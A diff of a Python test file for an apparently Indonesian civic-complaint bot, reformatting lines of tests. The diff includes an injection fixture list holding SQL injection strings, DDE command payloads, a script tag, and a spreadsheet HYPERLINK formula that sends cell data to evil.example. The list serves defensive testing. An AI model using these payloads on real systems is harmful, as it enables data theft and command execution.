@@ -67,9 +67,18 @@ async def officials_services(make_settings):
 
 
 OFFICIAL_TRIES = [
-    ("baru", ""), ("lihat", "{code}"), ("status", "{code} selesai"), ("balas", "{code} sudah diperbaiki"),
-    ("pilar", "{code} economy"), ("sembunyikan", "{code}"), ("ekspor", "csv"), ("statistik", ""),
-    ("new", ""), ("view", "{code}"), ("hide", "{code}"), ("export", "csv"),
+    ("baru", ""),
+    ("lihat", "{code}"),
+    ("status", "{code} selesai"),
+    ("balas", "{code} sudah diperbaiki"),
+    ("pilar", "{code} economy"),
+    ("sembunyikan", "{code}"),
+    ("ekspor", "csv"),
+    ("statistik", ""),
+    ("new", ""),
+    ("view", "{code}"),
+    ("hide", "{code}"),
+    ("export", "csv"),
 ]
 
 
@@ -109,8 +118,8 @@ async def test_the_same_user_id_on_another_channel_is_not_an_official(officials_
 
 INJECTIONS = [
     "Robert'); DROP TABLE submissions;-- jalan rusak parah di depan sekolah",
-    "jalan rusak\" OR 1=1; -- UNION SELECT token FROM users; banjir di gang",
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\") jalan rusak berlubang",
+    'jalan rusak" OR 1=1; -- UNION SELECT token FROM users; banjir di gang',
+    '=HYPERLINK("http://evil.example/?"&A1,"klik") jalan rusak berlubang',
     "+cmd|' /C calc'!A0 lampu jalan mati di perempatan pasar",
     "@SUM(1+1)*cmd|' /C calc'!A0 sampah menumpuk di sungai",
     "<script>alert(1)</script> <b>jalan</b> rusak &amp; berlubang besar",
@@ -237,12 +246,20 @@ async def test_a_signed_body_with_a_lone_surrogate_is_not_a_500(wa_bot):
     assert response.status_code in (200, 400)
 
 
-@pytest.mark.parametrize("value", [{"metadata": True}, {"metadata": {"phone_number_id": PHONE_ID}, "messages": 5},
-                                   {"metadata": {"phone_number_id": PHONE_ID}, "contacts": 7, "messages": []}])
+@pytest.mark.parametrize(
+    "value",
+    [
+        {"metadata": True},
+        {"metadata": {"phone_number_id": PHONE_ID}, "messages": 5},
+        {"metadata": {"phone_number_id": PHONE_ID}, "contacts": 7, "messages": []},
+    ],
+)
 @on_bot
 async def test_signed_envelopes_with_wrong_types_are_400(wa_bot, value):
-    body = {"object": "whatsapp_business_account",
-            "entry": [{"id": "1", "changes": [{"field": "messages", "value": {"messaging_product": "whatsapp", **value}}]}]}
+    body = {
+        "object": "whatsapp_business_account",
+        "entry": [{"id": "1", "changes": [{"field": "messages", "value": {"messaging_product": "whatsapp", **value}}]}],
+    }
     response = await wa_bot.post(body)
     assert response.status_code in (200, 400)
 
@@ -282,7 +299,9 @@ SECRETS = {
 
 def test_every_configured_secret_is_scrubbed_from_messages_args_and_tracebacks(make_settings):
     settings = make_settings(
-        **SECRETS, telegram_mode="webhook", telegram_webhook_url="https://suarawarga.test/webhook/telegram",
+        **SECRETS,
+        telegram_mode="webhook",
+        telegram_webhook_url="https://suarawarga.test/webhook/telegram",
         whatsapp_phone_number_id="1234567890",
     )
     assert set(settings.secrets()) == set(SECRETS.values())
